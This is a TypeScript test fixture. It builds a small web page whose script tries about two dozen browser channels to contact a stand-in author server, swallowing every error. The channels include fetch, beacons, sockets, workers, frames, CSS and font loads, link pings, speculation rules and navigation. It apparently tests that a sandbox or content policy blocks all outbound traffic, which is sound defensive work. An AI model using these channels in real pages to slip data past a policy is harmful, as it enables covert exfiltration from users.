import type { ZipFile } from '#support/zip.ts'

/** Every way to another server but a window that opens and WebRTC, which no policy of a page holds. */
const script = (home: string) => `
const http = 'http://${home}/', name = (way) => http + way
const framed = (what) => document.body.append(Object.assign(document.createElement('iframe'), what))
const inFrame = '<img src="' + name('in-frame') + '"><script>location = "' + name('frame-left') + '"</script>'
const markup = \`
  <link rel="stylesheet" href="\${name('css')}"><link rel="prefetch" href="\${name('prefetch')}">
  <link rel="preload" as="image" href="\${name('preload')}"><link rel="manifest" href="\${name('manifest')}">
  <style>@import "\${name('import')}"; @font-face { font-family: a; src: url(\${name('font')}) }
    p { font-family: a; background: url(\${name('background')}) }</style><p>A</p>
  <iframe src="\${name('frame')}"></iframe><object data="\${name('object')}"></object><embed src="\${name('embed')}">
  <video src="\${name('film')}" poster="\${name('poster')}"></video><svg><image href="\${name('svg')}"/></svg>
  <a id="pings" href="#here" ping="\${name('ping')}">A</a><a id="leaves" href="\${name('top')}" target="_top">A</a>\`
const speculation = JSON.stringify({ prefetch: [{ source: 'list', urls: [name('speculation')] }] })
const ways = [
  () => fetch(name('fetch')),
  () => navigator.sendBeacon(name('beacon'), 'x'),
  () => { new Image().src = name('picture') },
  () => new WebSocket(http.replace('http', 'ws')),
  () => new EventSource(name('events')),
  () => new WebTransport(http.replace('http', 'https')).ready,
  () => import(name('module.js')),
  () => new Worker(URL.createObjectURL(new Blob([\`fetch("\${name('worker')}"); importScripts("\${name('script')}")\`]))),
  () => document.body.insertAdjacentHTML('beforeend', markup),
  () => document.querySelector('#pings').click(),
  () => document.querySelector('#leaves').click(),
  () => framed({ srcdoc: inFrame }),
  () => framed({ src: 'data:text/html,' + encodeURIComponent(inFrame) }),
  () => framed({ src: URL.createObjectURL(new Blob([inFrame], { type: 'text/html' })) }),
  () => document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', text: speculation })),
  () => { location = name('left') },
]
for (const way of ways) try { Promise.resolve(way()).catch(() => {}) } catch {}
`

/** A tour that tries to reach the server of its author, and at last goes there itself. */
export const callsHome = (home: string): ZipFile[] => [
  { name: 'index.html', bytes: '<!doctype html><body><script src="try.js"></script>' },
  { name: 'try.js', bytes: script(home) },
]
